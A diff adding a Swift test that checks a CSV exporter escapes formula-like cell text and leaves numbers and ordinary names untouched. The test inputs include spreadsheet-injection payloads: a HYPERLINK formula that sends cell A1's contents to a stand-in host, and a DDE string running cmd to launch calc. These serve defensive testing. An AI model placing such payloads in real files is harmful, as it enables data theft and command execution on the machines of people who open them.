@@ -49,6 +49,18 @@ import Testing
         #expect(records.filter { $0[refused] == "jump" }.count == 1)
     }
 
+    /// What a spreadsheet would take for a formula, and numbers, which it may.
+    @Test func `have no formulas in their texts`() throws {
+        for text in ["=HYPERLINK(\"http://x/\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1"] {
+            #expect(CSVFormat.shown(text) == "'" + text)
+        }
+        for text in ["-6.25", "+1", "Blok M", "", "é=", "'=1"] { #expect(CSVFormat.shown(text) == text) }
+        let records = records(exported(.csv, [TestRide.trace(name: "=cmd.nmea")]))
+        #expect(records.dropFirst().allSatisfy { $0.last == "'=cmd.nmea" })
+        let latitude = try #require(records[0].firstIndex(of: "lat"))
+        #expect(records.dropFirst().allSatisfy { $0[latitude].isEmpty || Double($0[latitude]) != nil })
+    }
+
     @Test func `keep names with quotation marks, commas and line breaks`() throws {
         let records = records(exported(.csv, [trace]))
         let name = try #require(records[0].firstIndex(of: "stop_name"))
